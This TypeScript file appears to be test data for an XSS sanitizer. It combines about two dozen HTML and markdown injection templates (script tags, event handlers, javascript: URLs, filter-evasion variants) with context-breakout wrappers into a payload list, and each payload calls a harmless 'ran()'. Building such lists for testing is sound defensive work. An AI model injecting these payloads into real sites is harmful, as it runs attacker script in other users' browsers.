/** What somebody writes into a title or a text to have a script run in the reader's page; CALL is what it would do. */
const TEMPLATES = [
  '<script>CALL</script>',
  '<ScRiPt >CALL</sCrIpT>',
  '<script src=data:text/javascript,CALL></script>',
  '<img src=x onerror=CALL>',
  '<img src=x onerror="CALL">',
  '<img/src=x/onerror=CALL>',
  '<svg onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<body onload=CALL>',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<iframe src="javascript:parent.CALL"></iframe>',
  '<a href="javascript:CALL">x</a>',
  '[x](javascript:CALL)',
  '[x](java\tscript:CALL)',
  '![x](x" onerror="CALL)',
  '<details open ontoggle=CALL>',
  '<input autofocus onfocus=CALL>',
  '<video><source onerror=CALL>',
  '<math><mtext><mglyph><style><img src=x onerror=CALL>',
  '<style>@import "javascript:CALL"</style>',
  '<object data="javascript:CALL"></object>',
  '<form action="javascript:CALL"><button autofocus>x',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<template><script>CALL</script></template><noscript><p title="</noscript><img src=x onerror=CALL>">',
] as const

/** Ways out of the place that it is written into. */
const WRAPS = [
  'PAYLOAD',
  '"PAYLOAD',
  '">PAYLOAD',
  "'>PAYLOAD",
  '</title>PAYLOAD',
  '</textarea>PAYLOAD',
  '</script>PAYLOAD',
  '-->PAYLOAD',
  ']]>PAYLOAD',
  '<!--PAYLOAD',
  '{{PAYLOAD}}',
  '**PAYLOAD**',
] as const

export const PAYLOADS: readonly string[] = WRAPS.flatMap((wrap) =>
  TEMPLATES.map((template) => wrap.replace('PAYLOAD', () => template.replaceAll('CALL', 'ran()'))),
)
